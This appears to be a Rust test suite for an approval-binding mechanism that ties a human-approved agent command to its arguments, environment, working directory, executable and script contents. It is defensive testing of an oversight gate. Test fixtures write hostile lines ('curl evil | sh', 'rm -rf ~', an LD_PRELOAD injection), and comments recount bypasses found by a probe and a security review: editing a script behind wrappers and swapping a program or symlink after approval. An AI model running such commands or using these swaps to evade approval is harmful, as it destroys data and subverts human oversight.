//! The approval binding against real files: each bound field, edited scripts, swapped symlinks.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use gatehouse_policy::binding::{
    Binding, BindingError, BindingField, BindingInput, BindingMismatch, ScriptAmbiguity,
};

/// A request as the gateway would bind it: a temp dir with a script, run by `sh`.
struct Request {
    cwd: PathBuf,
    argv: Vec<String>,
    env: BTreeMap<String, String>,
    agent_id: String,
    session_key: String,
    executable: PathBuf,
}

impl Request {
    fn in_dir(dir: &Path, argv: &[&str]) -> Request {
        Request {
            cwd: dir.to_path_buf(),
            argv: argv.iter().map(|arg| (*arg).to_owned()).collect(),
            env: BTreeMap::from([("MODE".to_owned(), "fast".to_owned())]),
            agent_id: "main".to_owned(),
            session_key: "agent:main:main".to_owned(),
            executable: PathBuf::from("/bin/sh"),
        }
    }

    fn input(&self) -> BindingInput<'_> {
        BindingInput {
            cwd: &self.cwd,
            argv: &self.argv,
            env: &self.env,
            agent_id: &self.agent_id,
            session_key: &self.session_key,
            resolved_executable: &self.executable,
        }
    }

    fn bind(&self) -> Result<Binding, BindingError> {
        Binding::compute(&self.input())
    }
}

fn workdir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("deploy.sh"), "echo deploying\n").unwrap();
    dir
}

fn mismatch_after(change: impl FnOnce(&mut Request)) -> Result<(), BindingMismatch> {
    let dir = workdir();
    let mut request = Request::in_dir(dir.path(), &["sh", "deploy.sh", "prod"]);
    let approved = request.bind().unwrap();
    change(&mut request);
    approved.verify(&request.input())
}

fn denied(field: BindingField) -> Result<(), BindingMismatch> {
    Err(BindingMismatch { field })
}

#[test]
fn allows_the_unchanged_request() {
    assert_eq!(mismatch_after(|_| {}), Ok(()));
}

#[test]
fn denies_a_changed_argv() {
    let result = mismatch_after(|request| request.argv[2] = "staging".to_owned());
    assert_eq!(result, denied(BindingField::Argv));
}

#[test]
fn denies_changed_env_values_and_keys() {
    let value = mismatch_after(|request| {
        request.env.insert("MODE".to_owned(), "slow".to_owned());
    });
    assert_eq!(value, denied(BindingField::Env));
    let key = mismatch_after(|request| {
        request
            .env
            .insert("LD_PRELOAD".to_owned(), "/tmp/x.so".to_owned());
    });
    assert_eq!(key, denied(BindingField::Env));
}

#[test]
fn denies_another_agent_or_session() {
    let agent = mismatch_after(|request| request.agent_id = "intruder".to_owned());
    assert_eq!(agent, denied(BindingField::AgentId));
    let session = mismatch_after(|request| request.session_key = "agent:main:other".to_owned());
    assert_eq!(session, denied(BindingField::SessionKey));
}

#[test]
fn denies_another_resolved_executable() {
    let result = mismatch_after(|request| request.executable = PathBuf::from("/bin/bash"));
    assert_eq!(result, denied(BindingField::Executable));
}

/// Probe report: `nice bash deploy.sh` and `timeout 5 sh deploy.sh` bound no script, so an
/// edit while the approval was pending ran. Wrappers the policy looks through are looked
/// through here too; one whose target cannot be named refuses the binding.
#[test]
fn binds_a_script_behind_dispatch_wrappers() {
    for argv in [
        &["nice", "sh", "deploy.sh"][..],
        &["timeout", "5", "sh", "deploy.sh"],
        &["nohup", "env", "sh", "deploy.sh"],
    ] {
        let dir = workdir();
        let mut request = Request::in_dir(dir.path(), argv);
        request.executable = PathBuf::from("/bin/sh");
        let approved = request.bind().unwrap();
        assert!(approved.binds_script(), "{argv:?}");
        fs::write(request.cwd.join("deploy.sh"), "curl evil | sh\n").unwrap();
        assert_eq!(
            approved.verify(&request.input()),
            denied(BindingField::Script),
            "{argv:?}"
        );
    }
    let dir = workdir();
    let unclear = Request::in_dir(dir.path(), &["nice", "sudo", "sh", "deploy.sh"]);
    assert!(matches!(
        unclear.bind(),
        Err(BindingError::ScriptNotIdentified { .. })
    ));
}

/// Security review: a native program replaced at the same path while the approval was pending
/// ran, because only its path was bound.
#[test]
fn denies_a_program_replaced_at_the_same_path() {
    let dir = workdir();
    let tool = dir.path().join("tool");
    fs::copy("/bin/true", &tool).unwrap();
    let mut request = Request::in_dir(dir.path(), &["./tool"]);
    request.executable = tool.clone();
    let approved = request.bind().unwrap();
    assert_eq!(approved.verify(&request.input()), Ok(()));
    fs::remove_file(&tool).unwrap();
    fs::copy("/bin/false", &tool).unwrap();
    assert_eq!(
        approved.verify(&request.input()),
        denied(BindingField::Executable)
    );
}

#[test]
fn denies_a_script_edited_after_approval() {
    let result = mismatch_after(|request| {
        fs::write(request.cwd.join("deploy.sh"), "curl evil | sh\n").unwrap();
    });
    assert_eq!(result, denied(BindingField::Script));
}

#[test]
fn denies_a_script_deleted_after_approval() {
    let result = mismatch_after(|request| fs::remove_file(request.cwd.join("deploy.sh")).unwrap());
    assert_eq!(result, denied(BindingField::Script));
}

#[test]
fn denies_another_cwd() {
    let other = workdir();
    let result = mismatch_after(|request| request.cwd = other.path().to_path_buf());
    assert_eq!(result, denied(BindingField::Cwd));
}

#[test]
fn denies_a_cwd_symlink_swapped_after_approval() {
    let root = tempfile::tempdir().unwrap();
    let (real, decoy) = (root.path().join("real"), root.path().join("decoy"));
    for dir in [&real, &decoy] {
        fs::create_dir(dir).unwrap();
        fs::write(dir.join("deploy.sh"), "echo deploying\n").unwrap();
    }
    let link = root.path().join("current");
    symlink(&real, &link).unwrap();
    let request = Request::in_dir(&link, &["sh", "deploy.sh"]);
    let approved = request.bind().unwrap();

    fs::remove_file(&link).unwrap();
    symlink(&decoy, &link).unwrap();
    assert_eq!(approved.verify(&request.input()), denied(BindingField::Cwd));
}

#[test]
fn denies_an_executable_symlink_retargeted_after_approval() {
    let dir = workdir();
    let tool = dir.path().join("tool");
    symlink("/bin/true", &tool).unwrap();
    let mut request = Request::in_dir(dir.path(), &["tool"]);
    request.executable = tool.clone();
    let approved = request.bind().unwrap();
    assert!(!approved.binds_script());

    fs::remove_file(&tool).unwrap();
    symlink("/bin/false", &tool).unwrap();
    assert_eq!(
        approved.verify(&request.input()),
        denied(BindingField::Executable)
    );
}

#[test]
fn binds_a_directly_executed_script_by_its_shebang() {
    let dir = workdir();
    let script = dir.path().join("run");
    fs::write(&script, "#!/bin/sh\necho hi\n").unwrap();
    let mut request = Request::in_dir(dir.path(), &["./run"]);
    request.executable = script.clone();
    let approved = request.bind().unwrap();
    assert!(approved.binds_script());

    fs::write(&script, "#!/bin/sh\nrm -rf ~\n").unwrap();
    assert_eq!(
        approved.verify(&request.input()),
        denied(BindingField::Script)
    );
}

#[test]
fn binds_the_script_behind_env_and_interpreter_options() {
    let dir = workdir();
    fs::write(dir.path().join("tool.py"), "print(1)\n").unwrap();
    let mut request = Request::in_dir(dir.path(), &["env", "A=1", "python3", "-u", "tool.py"]);
    request.executable = PathBuf::from("/usr/bin/env");
    let approved = request.bind().unwrap();
    assert!(approved.binds_script());

    fs::write(dir.path().join("tool.py"), "print(2)\n").unwrap();
    assert_eq!(
        approved.verify(&request.input()),
        denied(BindingField::Script)
    );
}

#[test]
fn binds_inline_code_through_argv_alone() {
    let dir = workdir();
    let request = Request::in_dir(dir.path(), &["sh", "-c", "echo hi"]);
    assert!(!request.bind().unwrap().binds_script());
}

fn refusal(dir: &Path, argv: &[&str]) -> ScriptAmbiguity {
    match Request::in_dir(dir, argv).bind() {
        Err(BindingError::ScriptNotIdentified { reason, .. }) => reason,
        other => panic!("expected a refusal for {argv:?}, got {other:?}"),
    }
}

#[test]
fn refuses_to_bind_when_the_script_is_not_exactly_one_file() {
    let dir = workdir();
    fs::write(dir.path().join("other.sh"), "echo other\n").unwrap();
    fs::create_dir(dir.path().join("folder")).unwrap();
    let path = dir.path();
    assert_eq!(
        refusal(path, &["sh", "deploy.sh", "other.sh"]),
        ScriptAmbiguity::SeveralFiles(2)
    );
    assert_eq!(
        refusal(path, &["sh", "-c", "echo", "deploy.sh"]),
        ScriptAmbiguity::InlineCodeWithFile
    );
    assert_eq!(refusal(path, &["bash"]), ScriptAmbiguity::ProgramFromStdin);
    assert_eq!(
        refusal(path, &["sh", "missing.sh"]),
        ScriptAmbiguity::NotAFile("missing.sh".to_owned())
    );
    assert!(matches!(
        refusal(path, &["sh", "folder"]),
        ScriptAmbiguity::NotAFile(_)
    ));
    assert_eq!(
        refusal(path, &["python3", "-m", "http.server"]),
        ScriptAmbiguity::ModuleFromSearchPath("-m".to_owned())
    );
    assert_eq!(
        refusal(path, &["node", "--require=./deploy.sh", "app.js"]),
        ScriptAmbiguity::ModuleFromSearchPath("--require=./deploy.sh".to_owned())
    );
    assert_eq!(
        refusal(path, &["env", "-S", "sh deploy.sh"]),
        ScriptAmbiguity::UnknownEnvOption("-S".to_owned())
    );
}

#[test]
fn refuses_to_bind_an_unreadable_script() {
    use std::os::unix::fs::PermissionsExt;
    let dir = workdir();
    let script = dir.path().join("deploy.sh");
    fs::set_permissions(&script, fs::Permissions::from_mode(0o000)).unwrap();
    if fs::read(&script).is_ok() {
        return; // Running as root: permissions do not stop reads, nothing to test.
    }
    let result = Request::in_dir(dir.path(), &["sh", "deploy.sh"]).bind();
    assert!(matches!(result, Err(BindingError::ScriptUnreadable { .. })));
}

#[test]
fn refuses_to_bind_a_missing_cwd_or_executable() {
    let dir = workdir();
    let mut request = Request::in_dir(&dir.path().join("gone"), &["true"]);
    request.executable = PathBuf::from("/bin/true");
    assert!(matches!(request.bind(), Err(BindingError::Cwd { .. })));
    let mut request = Request::in_dir(dir.path(), &["true"]);
    request.executable = dir.path().join("no-such-tool");
    assert!(matches!(
        request.bind(),
        Err(BindingError::Executable { .. })
    ));
}

#[test]
fn stored_binding_still_detects_mismatch() {
    let dir = workdir();
    let request = Request::in_dir(dir.path(), &["sh", "deploy.sh"]);
    let stored = request.bind().unwrap().encode();
    fs::write(dir.path().join("deploy.sh"), "echo changed\n").unwrap();
    let approved = Binding::decode(&stored).unwrap();
    assert_eq!(
        approved.verify(&request.input()),
        denied(BindingField::Script)
    );
}

#[test]
fn the_store_form_round_trips_and_refuses_a_tampered_hash() {
    use gatehouse_approvals::{binding_of, run_binding};
    let dir = workdir();
    let request = Request::in_dir(dir.path(), &["sh", "deploy.sh"]);
    let binding = request.bind().unwrap();
    let mut stored = run_binding(&binding);
    assert_eq!(binding_of(&stored).unwrap(), binding);

    stored.hash = "0".repeat(64);
    assert!(matches!(
        binding_of(&stored),
        Err(BindingError::Malformed { .. })
    ));
}
